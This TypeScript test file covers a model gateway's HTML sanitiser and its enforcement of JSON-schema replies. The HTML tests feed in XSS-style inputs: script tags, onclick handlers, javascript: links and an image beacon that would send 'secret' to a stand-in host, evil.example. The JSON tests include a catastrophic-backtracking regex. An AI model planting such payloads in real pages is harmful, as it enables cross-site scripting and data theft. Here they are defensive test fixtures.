import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { readConfig } from '../../src/config/config.ts';
import { cleanHtml } from '../../src/model/reply/html.ts';
import { checkSchema, SchemaError, validateBySchema } from '../../src/model/reply/json-schema.ts';
import { createModelService } from '../../src/model/service.ts';
import { expectFailure, type Gateway, openGateway } from '../support/gateway/app.ts';
import { makeAgent, makeWorkspace, type TestWorkspace } from '../support/gateway/factories.ts';
import { request, returns } from '../support/model/model-requests.ts';
import { startOpenAiServer } from '../support/model/openai-server.ts';

const key = 'sk-format';
let server: Awaited<ReturnType<typeof startOpenAiServer>>;
let model: ReturnType<typeof createModelService>;
let gateway: Gateway;
let home: TestWorkspace;
let agent: { id: string };
beforeAll(async () => {
  server = await startOpenAiServer(key);
  const env = { MODEL_BASE_URL: server.baseUrl, MODEL_NAME: 'm', MODEL_API_KEY: key };
  model = createModelService({ models: readConfig(env).models, timeoutMs: 60_000, retries: 0 });
  gateway = await openGateway(env);
  home = await makeWorkspace(gateway);
  agent = await makeAgent(gateway, home.editor);
});
afterAll(async () => {
  await gateway.close();
  await server.close();
});
beforeEach(() => {
  server.requests.length = 0;
});

async function stream(asked: Parameters<typeof model.stream>[0]) {
  const told: string[] = [];
  const reply = await model.stream(asked, (piece) => told.push(piece));
  return { reply, told };
}

describe('a reply in HTML', () => {
  test.each([
    ['a script', '<p>Hi</p><script>steal()</script>', '<p>Hi</p>'],
    [
      'what an element does',
      '<p onclick="steal()">Hi</p><a href="javascript:steal()">x</a>',
      '<p>Hi</p><a rel="nofollow noopener noreferrer">x</a>',
    ],
    [
      'a picture that would tell a stranger what was said',
      '<p>Hi<img src="https://evil.example/?q=secret"></p>',
      '<p>Hi</p>',
    ],
    [
      'styles, frames and forms',
      '<style>p{}</style><p style="x">Hi</p><iframe src="/"></iframe><form><input></form>',
      '<p>Hi</p>',
    ],
    ['an address without a scheme', '<a href="//evil.example">x</a>', '<a rel="nofollow noopener noreferrer">x</a>'],
    ['a tag that is broken', '<p>1 < 2 <<script>x</script> <b', '<p>1 &lt; 2 &lt; </p>'],
    ['svg', '<svg><a href="javascript:x"><p>Hi</p></a></svg>', '<a rel="nofollow noopener noreferrer"><p>Hi</p></a>'],
  ])('holds no %s', (_, given, shown) => {
    expect(cleanHtml(given)).toBe(shown);
  });

  test('keeps text, lists, tables, code and links, and can be cleaned again without a change', () => {
    const html =
      '<h2>Títle</h2>\n<ul><li><strong>a</strong> &amp; b</li></ul><table><tr><td colspan="2">1</td></tr></table>' +
      '<pre><code>x &lt; y</code></pre><p><a href="https://a.example/" rel="nofollow noopener noreferrer">a</a><br /></p>';
    expect(cleanHtml(html)).toBe(html);
  });

  test('is told block by block while it is written, each clean, and its citations are checked', async () => {
    server.next({
      content:
        '```html\n<p>You have 30 days [1 "within 30 days of delivery"].</p> <ul> <li>One <script>steal()</script></li> </ul>\n<p>Bye <b onclick="x">now</b></p>\n```',
    });
    const { reply, told } = await stream(request('How long?', { format: 'html', passages: [returns] }));
    expect(reply.content).toBe('<p>You have 30 days [1].</p> <ul> <li>One </li> </ul>\n<p>Bye <b>now</b></p>');
    expect(reply.references).toHaveLength(1);
    expect(told.join('')).toBe(reply.content);
    expect(told.length).toBeGreaterThan(2);
  });

  test('that is a script alone is no answer', async () => {
    server.next({ content: '<script>steal()</script>' });
    await expect(stream(request('Hi', { format: 'html' }))).rejects.toMatchObject({ code: 'model_error' });
  });
});

const person = {
  type: 'object',
  properties: { name: { type: 'string', pattern: '^[A-Z]' }, age: { type: 'integer', minimum: 0 } },
  required: ['name', 'age'],
  additionalProperties: false,
};

describe('a reply in JSON', () => {
  test('obeys the schema of the caller, which the model is told', async () => {
    server.next({ content: '{"name": "Ana", "age": 30}' });
    const { reply, told } = await stream(request('Who?', { format: 'json', jsonSchema: person }));
    expect(reply.content).toBe('{"name":"Ana","age":30}');
    expect(told).toEqual([reply.content]);
    expect(JSON.stringify(server.requests[0]?.messages[0])).toContain('additionalProperties');
  });

  test.each([
    ['does not match it', '{"name": "ana"}', /\/: .*age[\s\S]*\/name: /],
    ['is none', 'Sure! Ana is 30.', /not JSON/],
  ])('that %s is asked for once more, with what is wrong', async (_, first, told) => {
    server.next({ content: first }, { content: '{"name": "Ana", "age": 30}' });
    const { reply } = await stream(request('Who?', { format: 'json', jsonSchema: person }));
    expect(reply.content).toBe('{"name":"Ana","age":30}');
    expect(reply.usage).toEqual({ promptTokens: 22, completionTokens: 14, cachedTokens: 0 });
    expect(server.requests[1]?.messages.slice(-2)).toEqual([
      { role: 'assistant', content: first },
      { role: 'user', content: expect.stringMatching(told) },
    ]);
  });

  test('that misses it twice is a model_error that names what is wrong', async () => {
    server.next({ content: '{"name": 1}' }, { content: '{"name": "Ana", "age": -1}' });
    const failed = stream(request('Who?', { format: 'json', jsonSchema: person }));
    await expect(failed).rejects.toMatchObject({
      code: 'model_error',
      issues: [{ message: expect.stringMatching(/^\/age: /) }],
    });
    expect(server.requests).toHaveLength(2);
  });

  test('is the caller’s to the last key, references too', async () => {
    server.next({ content: '{"references": ["a"]}' });
    const asked = request('x', { format: 'json', jsonSchema: { type: 'object' }, passages: [returns] });
    expect((await stream(asked)).reply).toMatchObject({ content: '{"references":["a"]}', references: [] });
  });

  test('is checked in time, whatever the schema’s patterns are', () => {
    // Without a limit, this pattern would take years.
    expect(() => validateBySchema({ pattern: '^(a+)+$' }, `${'a'.repeat(40)}!`)).toThrow(SchemaError);
    expect(() => checkSchema({ $ref: 'https://elsewhere.example/schema' })).toThrow(SchemaError);
    expect(() => checkSchema({ $ref: '#' })).toThrow(SchemaError);
    expect(() => checkSchema({ pattern: '(' })).toThrow(SchemaError);
    expect(() => checkSchema({ $schema: 'http://json-schema.org/draft-07/schema#', ...person })).not.toThrow();
  });
});

describe('sendMessage', () => {
  const send = 'mutation ($input: SendMessageInput!) { sendMessage(input: $input) { messages { content } } }';
  const ask = (input: object) =>
    gateway.graphql(home.editor, send, { input: { agentId: agent.id, message: { content: 'Who?' }, ...input } });

  test('takes a JSON schema', async () => {
    server.next({ content: '{"name": "Ana", "age": 30}' });
    expect(await ask({ jsonSchema: person })).toEqual({
      data: { sendMessage: { messages: [{ content: '{"name":"Ana","age":30}' }] } },
    });
  });

  test.each([
    [{ jsonSchema: person, format: 'html' }, 'jsonSchema: can only be used with format json'],
    [{ jsonSchema: { $ref: '#/$defs/none' } }, /^jsonSchema: is not a JSON schema that can be checked/],
    [{ jsonSchema: { description: 'x'.repeat(33_000) } }, 'jsonSchema: must have at most 32 KB'],
  ])('refuses a wrong one before anything is stored: %#', async (input, message) => {
    const before = await gateway.database.message.count({ where: { workspaceId: home.id } });
    expectFailure(await ask(input), 'invalid_request', message);
    expect(await gateway.database.message.count({ where: { workspaceId: home.id } })).toBe(before);
  });
});
